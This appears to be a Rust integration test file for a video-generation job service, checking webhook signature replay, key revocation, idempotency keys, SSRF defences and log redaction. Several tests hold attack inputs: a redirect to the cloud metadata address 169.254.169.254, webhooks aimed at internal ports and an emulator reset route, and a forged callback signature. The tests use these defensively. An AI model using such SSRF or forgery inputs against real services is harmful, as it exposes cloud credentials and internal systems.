    let client = reqwest::Client::new();
    let body = json!({"input": {"mode": "text", "prompt": "A kite", "width": 64, "height": 64, "duration_seconds": 0.5}});
    let created: serde_json::Value = client
        .post(format!("{}/v1/predictions", provider.base_url))
        .bearer_auth(&token)
        .json(&body)
        .send()
        .await
        .expect("submitted")
        .json()
        .await
        .expect("JSON");
    let id = created["id"].as_str().expect("a prediction id").to_owned();
    let mut output = serde_json::Value::Null;
    for _ in 0..150 {
        let now: serde_json::Value = client
            .get(format!("{}/v1/predictions/{id}", provider.base_url))
            .bearer_auth(&token)
            .send()
            .await
            .expect("read")
            .json()
            .await
            .expect("JSON");
        assert_ne!(now["status"], "failed", "{now}");
        if now["status"] == "succeeded" {
            output = now["output"].clone();
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    }

    for field in ["video", "thumbnail"] {
        let link = url::Url::parse(output[field].as_str().expect("a file link")).expect("a URL");
        let query: std::collections::HashMap<String, String> = link.query_pairs().into_owned().collect();
        let (expires, signature) = (query["expires"].clone(), query["sig"].clone());
        let file = link.path().trim_start_matches("/files/").to_owned();
        // The attacker waits until the link is about to expire, when its expiry is a fresh callback timestamp,
        // and presents the link's signature as a callback's (id and timestamp as the link signed them).
        let at = time::OffsetDateTime::from_unix_timestamp(expires.parse().expect("an expiry")).expect("a time");
        let reply = {
            let _clock = videojobs_core::model::determinism::simulate(at, 20);
            let webhook_id = format!("file:{file}");
            let headers = [("webhook-id", webhook_id.as_str()), ("webhook-timestamp", expires.as_str()), ("webhook-signature", &signature)];
            app.anonymous()
                .provider_callback("local", &headers, Payload::Bytes { content_type: "application/json", bytes: Vec::new() })
                .await
        };
        assert_eq!(reply.status, StatusCode::UNAUTHORIZED, "{field}: the link's signature verified as a callback: {}", reply.body);
        assert_eq!(reply.error_code(), "bad_signature");
    }
    // The links still serve their files.
    let video = output["video"].as_str().unwrap();
    assert_eq!(client.get(video).send().await.expect("answered").status(), 200);
}

#[test]
fn a_webhook_with_fal_on_and_no_fal_user_id_refuses_to_start() {
    // The webhook's environment as the template gave it with fal on and FalUserId empty.
    let webhook_env = |user: Option<&str>| {
        let user = user.map(str::to_owned);
        move |name: &str| match name {
            "FAL_JWKS_URL" => Some(videojobs_providers::fal::DEFAULT_JWKS_URL.to_owned()),
            "FAL_USER_ID" => user.clone(),
            _ => None,
        }
    };

    let refused = videojobs_providers::from_lookup(webhook_env(None), videojobs_providers::http_client_on_first_use());
    let blank = videojobs_providers::from_lookup(webhook_env(Some("  ")), videojobs_providers::http_client_on_first_use());
    let pinned = videojobs_providers::from_lookup(webhook_env(Some("5b4d1e6c-user")), videojobs_providers::http_client_on_first_use());

    let err = refused.err().expect("fal on without FAL_USER_ID accepts every fal customer's callbacks: it must not start");
    assert_eq!(err.name, "FAL_USER_ID", "{err}");
    assert!(err.to_string().contains("FAL_USER_ID"), "{err}");
    assert_eq!(blank.err().map(|e| e.name), Some("FAL_USER_ID"));
    assert!(pinned.expect("starts with our account pinned").get("fal").is_some());
}

#[tokio::test]
async fn an_idempotency_key_with_bytes_past_ascii_is_a_400_not_a_request_without_a_key() {
    // Arrange: a key header that HTTP carries but that is not visible ASCII.
    let app = TestApp::new(10).await;
    let body = r#"{"prompt":"a retry must not make a second job","duration_seconds":2}"#;

    // Act: the same request twice, as a client retrying with its key would send it.
    let first = app.with_headers(&[("Idempotency-Key", "clé-1")]).generate(body).await;
    let again = app.with_headers(&[("Idempotency-Key", "clé-1")]).generate(body).await;

    // Assert: refused, naming the header, and nothing written or debited.
    for reply in [&first, &again] {
        assert_eq!(reply.status, StatusCode::BAD_REQUEST, "{}", reply.body);
        assert_eq!(reply.body["error"]["field"], "Idempotency-Key", "{}", reply.body);
    }
    assert_eq!(app.job_count().await, 0, "no job made without its key");
    assert_eq!(app.credits().await, 10);
}

#[tokio::test]
async fn a_revoked_demo_key_stays_revoked_when_the_local_stack_starts_again_and_its_file_is_the_owners_alone() {
    // Arrange: the local stack's first start seeds the demo keys into a file.
    use std::os::unix::fs::PermissionsExt;
    let app = TestApp::new(0).await;
    let dir = std::env::temp_dir().join(format!("demo-{}", ulid::Ulid::new()));
    let file = dir.join("keys/demo-keys.json");
    let first = local_api::seed_demo(&app.services, &file).await.unwrap();
    let admin = app.as_key(&first.admin_key);
    // A demo key's id is derived from its hash (what the logs show for it).
    let user_key: videojobs_core::model::ids::ApiKey = first.user_key.parse().unwrap();
    let user_key_id = videojobs_core::model::ids::KeyId::derived_from(&user_key.hash()).to_string();
    assert_eq!(admin.revoke_key(&user_key_id).await.status, StatusCode::OK);

    // Act: the stack starts again (scripts/up after scripts/down).
    let second = local_api::seed_demo(&app.services, &file).await.unwrap();

    // Assert: the revoked key is still refused; its holder has a new one.
    assert_eq!(app.as_key(&first.user_key).account().await.status, StatusCode::UNAUTHORIZED, "the revoked key came back");
    assert_ne!(second.user_key, first.user_key);
    assert_eq!(app.as_key(&second.user_key).account().await.status, StatusCode::OK);
    assert_eq!((second.reviewer_key.as_str(), second.admin_key.as_str()), (first.reviewer_key.as_str(), first.admin_key.as_str()));
    let written: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(&file).unwrap()).unwrap();
    assert_eq!(written["user_key"], second.user_key.as_str(), "the file holds the key that works");
    let mode = |path: &std::path::Path| std::fs::metadata(path).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode(&file), 0o600, "only the owner reads the keys");
    assert_eq!(mode(file.parent().unwrap()), 0o700, "only the owner enters their directory");
    let _ = std::fs::remove_dir_all(&dir);
}

#[tokio::test]
async fn a_key_written_by_hand_without_an_id_is_listed_once_used_and_can_be_revoked() {
    // Arrange (a stack of its own: the key listing is the whole stack's): an admin key as docs/DEPLOYING.md once had operators write it (no id, no listing entry).
    use aws_sdk_dynamodb::types::AttributeValue;
    let app = TestApp::builder().credits(0).own_stack().build().await;
    let key = videojobs_core::model::ids::ApiKey::generate();
    let stack = app.stack();
    let item = [
        ("pk", format!("APIKEY#{}", key.hash().as_str())),
        ("sk", "APIKEY".to_owned()),
        ("user_id", format!("hand-{}", ulid::Ulid::new().to_string().to_lowercase())),
        ("role", "admin".to_owned()),
    ];
    let mut put = stack.clients.dynamodb.put_item().table_name(&stack.resources.jobs_table);
    for (name, value) in item {
        put = put.item(name, AttributeValue::S(value));
    }
    put.send().await.unwrap();
    let admin = app.as_key(key.expose());

    // Act: the key is used, then revoked by the id its use shows.
    let listed = admin.list_keys(Page::of(100)).await;
    let derived = videojobs_core::model::ids::KeyId::derived_from(&key.hash()).to_string();
    let revoked = admin.revoke_key(&derived).await;

    // Assert
    assert_eq!(listed.status, StatusCode::OK, "{}", listed.text);
    let ids: Vec<&str> = listed.body["keys"].as_array().unwrap().iter().filter_map(|k| k["key_id"].as_str()).collect();
    assert!(ids.contains(&derived.as_str()), "a key that works is listed: {ids:?}");
    assert_eq!(revoked.status, StatusCode::OK, "{}", revoked.text);
    assert_eq!(admin.list_keys(Page::of(1)).await.status, StatusCode::UNAUTHORIZED, "the revoked key is refused at once");
}

#[tokio::test]
async fn the_first_admin_key_command_makes_a_key_that_is_listed_and_revocable() {
    // Arrange (a stack of its own: the key listing is the whole stack's)
    let app = TestApp::builder().credits(0).own_stack().build().await;
    let user = format!("first-{}", ulid::Ulid::new().to_string().to_lowercase());

    // Act: what docs/DEPLOYING.md has an operator run against a new deployment.
    let out = tokio::process::Command::new(crate::harness::workspace_binary("first-admin-key"))
        .args(["--jobs-table", &app.stack().resources.jobs_table, "--user-id", &user])
        .output()
        .await
        .unwrap();

    // Assert: it works as an admin key, is listed under its id, and revokes.
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let key = String::from_utf8(out.stdout).unwrap().trim().to_owned();
    let admin = app.as_key(&key);
    let listed = admin.list_keys(Page::of(100)).await;
    assert_eq!(listed.status, StatusCode::OK, "{}", listed.text);
    let mine = listed.body["keys"].as_array().unwrap().iter().find(|k| k["user_id"] == user.as_str()).cloned().expect("listed");
    assert_eq!((mine["role"].as_str(), mine["state"].as_str()), (Some("admin"), Some("active")));
    assert_eq!(admin.revoke_key(mine["key_id"].as_str().unwrap()).await.status, StatusCode::OK);
    assert_eq!(admin.list_keys(Page::of(1)).await.status, StatusCode::UNAUTHORIZED);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_notification_cannot_be_aimed_at_the_local_stacks_own_ports_or_a_port_nobody_named() {
    // Arrange: the local stack as scripts/up runs it, receivers allowed at 8000-8999 only.
    let stack = crate::harness::fresh_stack();
    let app = TestApp::builder().credits(100).on_stack(stack.resources.clone()).build().await;
    let process = crate::harness::LocalApiProcess::start(&stack, &[("LOOPBACK_WEBHOOK_PORTS", "1024-65535".to_owned())]).await;
    let api_port = url::Url::parse(&process.base_url).unwrap().port().unwrap();
    let emulator = url::Url::parse(&std::env::var("AWS_ENDPOINT_URL").unwrap()).unwrap();
    let emulator_port = emulator.port_or_known_default().unwrap();
    let api = crate::harness::HttpApi::new(&process.base_url);
    let create = |url: String| json!({"prompt": "A kite", "duration_seconds": 1, "webhook_url": url});

    // Act: a user aims their notifications at the emulator's reset route and at the API itself.
    let at_emulator = api.as_key(&app.key).generate(&create(format!("http://127.0.0.1:{emulator_port}/moto-api/reset"))).await;
    let at_api = api.as_key(&app.key).generate(&create(format!("http://127.0.0.1:{api_port}/videos/generate"))).await;
    let below_range = api.as_key(&app.key).generate(&create("http://127.0.0.1:80/hook".to_owned())).await;
    let named = api.as_key(&app.key).generate(&create("http://127.0.0.1:8081/hook".to_owned())).await;

    // Assert: refused with the field and nothing spent; a named port is fine.
    for (what, reply) in [("the emulator", &at_emulator), ("the API", &at_api), ("a port nobody named", &below_range)] {
        assert_eq!(reply.status, StatusCode::BAD_REQUEST, "{what}: {}", reply.text);
        assert_eq!(reply.body["error"]["field"], "webhook_url", "{what}: {}", reply.text);
    }
    assert_eq!(named.status, StatusCode::ACCEPTED, "{}", named.text);
    assert_eq!(app.job_count().await, 1, "only the named port's job was written");
}

#[tokio::test]
async fn the_output_copier_follows_no_redirect_to_an_address_it_would_refuse_and_stores_no_body_over_its_cap() {
    // Arrange: a provider's file host on loopback (the only port allowed), and another server that must not be reached.
    use videojobs_core::ports::{CopyError, OutputStore};
    use wiremock::matchers::path;
    let app = TestApp::builder().credits(0).on_the_stack().build().await;
    let (host, elsewhere) = (MockServer::start().await, MockServer::start().await);
    Mock::given(any()).respond_with(ResponseTemplate::new(200).set_body_string("never")).mount(&elsewhere).await;
    let redirect = |to: String| ResponseTemplate::new(302).insert_header("location", to.as_str());
    Mock::given(path("/inward")).respond_with(redirect("http://169.254.169.254/latest/meta-data/".into())).mount(&host).await;
    Mock::given(path("/elsewhere")).respond_with(redirect(format!("{}/x", elsewhere.uri()))).mount(&host).await;
    Mock::given(path("/moved")).respond_with(redirect("/video.mp4".into())).mount(&host).await;
    Mock::given(path("/video.mp4")).respond_with(ResponseTemplate::new(200).set_body_bytes(vec![7u8; 2_048])).mount(&host).await;
    let port = url::Url::parse(&host.uri()).unwrap().port().unwrap();
    let policy = videojobs_core::model::notification::WebhookPolicy { allow_http: true, loopback: LoopbackPorts::range(port, port) };
    let stack = app.stack();
    let outputs = videojobs_aws::S3Outputs::new(stack.clients.s3.clone(), &stack.resources.media_bucket).fetching_from(policy);
    let key = |name: &str| format!("outputs/copier-{}/{name}", ulid::Ulid::new());

    // Act
    let (inward, elsewhere_key, moved_key, big_key) = (key("inward"), key("elsewhere"), key("moved"), key("big"));
    let to_inward = outputs.copy_from_url(&format!("{}/inward", host.uri()), &inward, "video/mp4").await;
    let to_elsewhere = outputs.copy_from_url(&format!("{}/elsewhere", host.uri()), &elsewhere_key, "video/mp4").await;
    let moved = outputs.copy_from_url(&format!("{}/moved", host.uri()), &moved_key, "video/mp4").await;
    let too_big = outputs.clone().at_most(1_024).copy_from_url(&format!("{}/video.mp4", host.uri()), &big_key, "video/mp4").await;

    // Assert: refused, not followed, nothing stored; a redirect to a checked address is fine.
    assert!(matches!(&to_inward, Err(CopyError::SourceUnusable(why)) if why.contains("169.254.169.254")), "{to_inward:?}");
    assert!(matches!(&to_elsewhere, Err(CopyError::SourceUnusable(why)) if why.contains("loopback port")), "{to_elsewhere:?}");
    assert!(elsewhere.received_requests().await.unwrap_or_default().is_empty(), "the redirect was not followed");
    assert_eq!(moved.expect("a redirect to a checked address is followed").size_bytes, 2_048);
    assert!(matches!(&too_big, Err(CopyError::SourceUnusable(why)) if why.contains("1024")), "{too_big:?}");
    for key in [&inward, &elsewhere_key, &big_key] {
        assert!(!app.object_exists(key).await, "{key} stored");
    }
    assert!(app.object_exists(&moved_key).await);
}

#[tokio::test]
async fn a_providers_words_that_quote_the_prompt_never_reach_a_log_line() {
    // Arrange: Replicate refuses the job, then is busy, each time quoting the prompt back.
    use crate::failover::{provider_env, REPLICATE_CREATE};
    use videojobs_providers::replay::{ReplayServer, Reply as Replayed};
    let replicate = ReplayServer::start().await;
    let quoted =
        |status: u16| Replayed::json(status, json!({"detail": "the prompt 'a kite over SECRETDUNES' was flagged", "status": status}));
    replicate.on("POST", REPLICATE_CREATE, vec![quoted(503), quoted(422)]);
    let mut s = settings();
    s.enabled_providers = vec!["replicate".parse().unwrap()];
    let app = TestApp::builder().credits(100).settings(s).provider_env(provider_env(&replicate)).build().await;
    let body = json!({"prompt": "a kite over SECRETDUNES", "duration_seconds": 1, "resolution": "480p", "provider": "replicate"});
    let (busy, refused) = (app.new_job_with(&body).await, app.new_job_with(&body).await);
    let captured = Captured::default();
    let sink = captured.clone();
    let dispatch = tracing::Dispatch::new(videojobs_aws::telemetry::subscriber(videojobs_aws::telemetry::Redacting(move || sink.clone())));

    // Act: the worker submits each (the first answered busy, the second refused).
    {
        let _logging = tracing::dispatcher::set_default(&dispatch);
        app.handle_work(work_message(json!({"kind": "submit", "job_id": busy.as_str()}))).await;
        app.handle_work(work_message(json!({"kind": "submit", "job_id": refused.as_str()}))).await;
    }

    // Assert: both answers were logged, as a status and a length, never in the provider's words.
    let logs = String::from_utf8(captured.0.lock().expect("the log buffer").clone()).expect("UTF-8 logs");
    assert!(logs.contains("provider busy") && logs.contains("HTTP 503 and 48 characters from the provider"), "{logs}");
    assert!(logs.contains("provider refused the job") && logs.contains("48 characters from the provider"), "{logs}");
    assert!(!logs.contains("SECRETDUNES"), "the prompt reached the logs: {logs}");
    assert_eq!(app.job(&busy).await.status, videojobs_core::JobStatus::Retrying);
    assert_eq!(app.job(&refused).await.status, videojobs_core::JobStatus::Failed);
}
